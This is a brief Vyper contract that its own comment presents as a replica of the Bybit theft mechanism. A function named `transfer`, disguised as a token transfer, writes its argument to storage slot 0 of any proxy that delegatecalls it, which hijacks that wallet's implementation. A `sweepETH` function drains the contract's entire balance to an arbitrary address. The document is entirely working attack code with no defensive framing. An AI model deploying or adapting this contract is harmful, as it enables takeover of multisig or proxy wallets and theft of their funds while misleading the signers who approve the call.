# pragma version 0.4.3
# As in the Bybit theft: `transfer` writes its first argument to slot 0 of whoever delegates the call.

slot_0: address

@external
def transfer(to: address, amount: uint256):
    self.slot_0 = to

@external
def sweepETH(to: address):
    raw_call(to, b"", value=self.balance)
